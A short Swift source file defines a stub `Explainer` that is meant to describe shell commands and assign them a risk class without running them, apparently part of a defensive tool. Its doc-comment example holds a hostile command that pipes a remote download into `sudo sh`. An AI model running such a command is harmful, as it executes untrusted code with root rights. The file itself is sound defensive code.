/// Explains shell command lines in plain words with a risk class. Never runs anything.
///
/// ```swift
/// let explanation = Explainer().explain("curl -s http://203.0.113.9/x | sudo sh")
/// print(explanation.summary, explanation.riskClass)
/// ```
package struct Explainer: Sendable {
    package init() {}

    /// Parses and explains one command line (which may span several lines).
    package func explain(_ line: String) -> CommandExplanation {
        CommandExplanation(summary: "Custody cannot explain this command yet.", riskClass: .unknown)
    }
}
